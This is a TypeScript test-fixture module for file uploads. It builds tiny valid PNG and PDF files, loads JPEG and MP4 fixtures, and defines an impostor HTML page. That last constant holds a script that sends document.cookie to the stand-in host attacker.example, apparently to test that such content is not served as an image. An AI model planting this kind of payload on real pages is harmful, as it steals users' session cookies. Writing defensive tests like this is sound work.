// Upload fixtures: tiny real files (a PNG and a PDF built here, a JPEG and an MP4 from test/fixtures) and impostors.
import { readFileSync } from 'node:fs'
import { crc32, deflateSync } from 'node:zlib'

function pngChunk (type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typeAndData))
  return Buffer.concat([length, typeAndData, crc])
}

/** A valid 2×2 RGB PNG: signature, IHDR, one zlib IDAT, IEND, every chunk with its CRC. */
export function tinyPng (): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(2, 0)
  header.writeUInt32BE(2, 4)
  header[8] = 8 // bit depth
  header[9] = 2 // colour type: RGB
  // Each scanline: filter byte 0, then two RGB pixels.
  const pixels = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255])
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(pixels)), pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A valid one-page PDF with a correct cross-reference table. */
export function tinyPdf (): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>',
  ]
  let body = '%PDF-1.4\n'
  const offsets: number[] = []
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body))
    body += `${i + 1} 0 obj\n${object}\nendobj\n`
  })
  const xref = Buffer.byteLength(body)
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(body, 'latin1')
}

/** An 8×8 baseline JPEG made by ffmpeg (see test/fixtures/README.md). */
export function tinyJpeg (): Buffer {
  return readFileSync(new URL('../fixtures/tiny.jpg', import.meta.url))
}

/** A one-frame 16×16 H.264 MP4 made by ffmpeg (see test/fixtures/README.md). */
export function tinyMp4 (): Buffer {
  return readFileSync(new URL('../fixtures/tiny.mp4', import.meta.url))
}

/** A page that runs script: what an attacker would like served as image/png from the bucket's origin. */
export const HTML_PAGE = '<!DOCTYPE html>\n<html><body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>\n'
